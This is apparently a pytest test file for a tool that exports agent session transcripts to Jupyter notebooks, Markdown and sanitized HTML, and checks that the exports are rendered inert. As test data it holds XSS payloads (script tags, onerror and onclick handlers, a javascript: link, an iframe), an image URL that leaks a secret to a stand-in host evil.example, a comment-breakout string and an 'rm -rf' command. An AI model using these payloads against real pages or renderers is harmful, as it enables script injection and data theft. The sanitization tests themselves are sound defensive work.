"""Export round trips: .ipynb (validated), .md and sanitized self-contained .html."""

from __future__ import annotations

import base64
import json
from html.parser import HTMLParser

import nbformat
import pytest
from cassette_events import PNG, turn_events

from nb_agents.record import ExportError, export, parts_of
from nb_agents.record.cassette import Recorder
from nb_agents.record.parts import bash_to_python
from nb_agents.transcript import empty, fold_all

B64 = base64.b64encode(PNG).decode()
EVIL = "Done <script>alert(1)</script> <img src=x onerror=alert(2)> [link](javascript:alert(3))"


def _events(**kw):
    return turn_events(image=True, **kw)


def test_ipynb_round_trip(tmp_path):
    path = export(_events(), tmp_path / "out" / "conv.ipynb")
    nb = nbformat.read(path, as_version=4)
    nbformat.validate(nb)
    kinds = [c.cell_type for c in nb.cells]
    assert kinds == ["markdown", "markdown", "code", "markdown", "markdown"]
    title, user, bash, write, agent = nb.cells
    assert title.source.startswith("# Agent session")
    assert user.source == "**You:**\n\nProfile sales.csv"
    assert bash.source == "print(6*7)"  # `python -c` becomes a Python cell
    assert bash.metadata["nb_agents"] == {"tool": "bash", "python": True, "is_error": False}
    stream, image = bash.outputs
    assert (stream.output_type, stream.name, stream.text) == ("stream", "stdout", "42\n")
    assert image.output_type == "display_data" and image.data["image/png"] == B64
    assert write.source.startswith("<details><summary>🔧 write /mnt/session/outputs/notes.txt</summary>")
    assert '"content": "hello\\n"' in write.source and "File written" in write.source
    assert agent.source == "**Agent:**\n\nRevenue **grew** 12% in March."
    assert nb.metadata.kernelspec.name == "python3"


def test_ipynb_plain_bash_and_heredoc_and_errors(tmp_path):
    events = turn_events(bash="ls -la /mnt/data | head", bash_out="total 0\n")
    events += turn_events(bash="python3 - <<'EOF'\nimport math\nprint(math.pi)\nEOF", bash_out="3.14\n",
                          id_start=100)
    events += turn_events(bash="cat missing.csv", bash_out="cat: missing.csv: No such file\n", bash_error=True,
                          id_start=200)
    nb = nbformat.read(export(events, tmp_path / "c.ipynb"), as_version=4)
    code = [c for c in nb.cells if c.cell_type == "code"]
    assert code[0].source == "%%bash\nls -la /mnt/data | head"
    assert code[0].metadata["nb_agents"]["python"] is False
    assert code[1].source == "import math\nprint(math.pi)" and code[1].outputs[0].text == "3.14\n"
    err = code[2].outputs[0]
    assert (err.name, err.text) == ("stderr", "cat: missing.csv: No such file\n")
    assert code[2].metadata["nb_agents"]["is_error"] is True
    assert sum(c.source.startswith("**You:**") for c in nb.cells) == 3


@pytest.mark.parametrize("command, python", [
    ("python -c 'print(1)'", "print(1)"),
    ('/usr/bin/python3.11 -c "import os; print(os.getcwd())"', "import os; print(os.getcwd())"),
    ("python <<EOF\nx = 1\nEOF", "x = 1"),
    ("python -c 'print(1)' && rm -rf /tmp/x", None),
    ("pip install pandas", None),
    ("python script.py", None),
    ("python -c 'unterminated", None),
])
def test_bash_to_python(command, python):
    assert bash_to_python(command) == python


def test_markdown_round_trip(tmp_path):
    text = export(_events(), tmp_path / "conv.md").read_text()
    assert text.startswith("# Agent session\n")
    assert "**You:**\n\nProfile sales.csv" in text
    assert "```python\nprint(6*7)\n```\n\n```text\n42\n```" in text
    assert f"![image](data:image/png;base64,{B64})" in text
    assert "<details><summary>🔧 write /mnt/session/outputs/notes.txt</summary>" in text
    assert text.index("Profile sales.csv") < text.index("print(6*7)") < text.index("Revenue **grew**")
    tricky = export(turn_events(bash="echo hi", bash_out="```\ninjected\n```\n"), tmp_path / "t.md").read_text()
    assert "````text\n```\ninjected\n```\n````" in tricky  # the fence outgrows backticks in the output


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend(attrs)

    def handle_data(self, data):
        self.text.append(data)


def test_html_is_self_contained_and_sanitized(tmp_path):
    page = export(_events(answer=EVIL + " **bold**"), tmp_path / "conv.html").read_text()
    p = _Collect()
    p.feed(page)
    assert "script" not in p.tags and "strong" in p.tags and "details" in p.tags
    assert not any(name.startswith("on") for name, _ in p.attrs)
    assert not any("javascript:" in (value or "") for _, value in p.attrs)
    srcs = [v for k, v in p.attrs if k in ("src", "href")]
    assert f"data:image/png;base64,{B64}" in srcs
    assert all(s.startswith("data:") for s in srcs if s and s != "x")  # nothing fetched from the network
    text = "".join(p.text)
    assert "Profile sales.csv" in text and "python -c 'print(6*7)'" in text and "42" in text


def test_export_from_transcript_run_and_cassette(tmp_path):
    events = _events()
    t = fold_all(empty(session_id="sesn_7"), events)
    assert [p.kind for p in parts_of(t)] == [p.kind for p in parts_of(events)] == ["user", "tool", "tool", "agent"]
    md = export(t, tmp_path / "t.md").read_text()
    assert "print(6*7)" in md and "Revenue **grew**" in md and "# Agent session sesn_7" in md

    rec = Recorder(tmp_path / "c", meta={"backend": "emulator", "model": "claude-sonnet-4-6"})
    for e in events:
        rec.on_event(e)
    rec.add_file("chart.png", PNG)
    cas_path = rec.close({"session_id": "sesn_7", "stop_reason": "end_turn"})
    nb = nbformat.read(export(cas_path, tmp_path / "c.ipynb"), as_version=4)
    assert nb.metadata["nb_agents"]["model"] == "claude-sonnet-4-6"
    assert nb.metadata["nb_agents"]["backend"] == "emulator"

    from nb_agents.record.playback import replay

    run = replay(cas_path, speed=None, view=False, outputs_dir=tmp_path / "o")
    nb = nbformat.read(export(run, tmp_path / "r.ipynb"), as_version=4)
    last = nb.cells[-1]
    assert last.attachments[next(iter(last.attachments))]["image/png"] == B64  # the output chart, inline
    assert json.dumps(nb.metadata["nb_agents"]["session_id"]) == '"sesn_7"'


def test_export_errors(tmp_path):
    with pytest.raises(ExportError, match="use a .ipynb, .md or .html path"):
        export(_events(), tmp_path / "x.pdf")
    with pytest.raises(ExportError, match="Nothing to export"):
        export(turn_events()[:2], tmp_path / "x.md")
    with pytest.raises(ExportError, match="Cannot export a int"):
        export(3, tmp_path / "x.md")


HOSTILE = ("Look ![chart](https://evil.example/p.png?leak=SECRET) and ![r][ref] <img src=x\n"
           "onerror=alert(2)> then `<code ok>`\n\n<script>alert(1)</script>\n\n<iframe src=https://evil.example>"
           "</iframe>\n\n> <a onclick=alert(4) href=x>q</a>\n\n[ref]: http://evil.example/q.png\n")


def _permissive(markdown: str) -> str:
    """What a renderer that allows raw HTML (Jupyter, an editor's preview) makes of the source."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(markdown)


def _assert_inert(page: str, allowed=("data:",)) -> None:
    from html_checks import tags_of

    tags = tags_of(page)
    names = {t for t, _ in tags}
    assert not names & {"script", "iframe", "object", "embed", "link", "style", "base", "meta"}, names
    for tag, attrs in tags:
        assert not any(k.startswith("on") for k in attrs), (tag, attrs)
        for key in ("src", "srcset", "poster", "background"):
            value = attrs.get(key)
            assert value is None or value.startswith(allowed), (tag, attrs)  # nothing loads from the network
    assert "SECRET" not in " ".join(str(a.get("src")) for _, a in tags)


@pytest.mark.parametrize("fmt", ["html", "md", "ipynb"])
def test_exports_are_inert(tmp_path, fmt):
    path = export(_events(answer=HOSTILE), tmp_path / f"conv.{fmt}")
    if fmt == "html":
        _assert_inert(path.read_text().split("</style>", 1)[1])
        page = path.read_text()
    elif fmt == "md":
        page = _permissive(path.read_text())
        _assert_inert(page)
    else:
        nb = nbformat.read(path, as_version=4)
        page = "".join(_permissive(c.source) for c in nb.cells if c.cell_type == "markdown")
        _assert_inert(page, allowed=("data:", "attachment:"))
    assert "evil.example/p.png?leak=SECRET" in page  # still there, as a link the reader may follow
    assert "alert(1)" in page  # the hostile text shows as text


def test_md_provenance_comment_cannot_be_closed_by_its_content(tmp_path):
    from nb_agents.record.writers import write_markdown

    path = tmp_path / "x.md"
    write_markdown([], path, title="t", metadata={"nb_agents": {"prompt": "x ---><script>alert(1)</script>"}})
    text = path.read_text()
    comment = text[text.index("<!--"):]
    assert comment.count("-->") == 1 and comment.rstrip().endswith("-->")
    assert json.loads(comment[len("<!-- nb_agents provenance\n"):-len("\n-->\n")])["nb_agents"]["prompt"].startswith("x --")
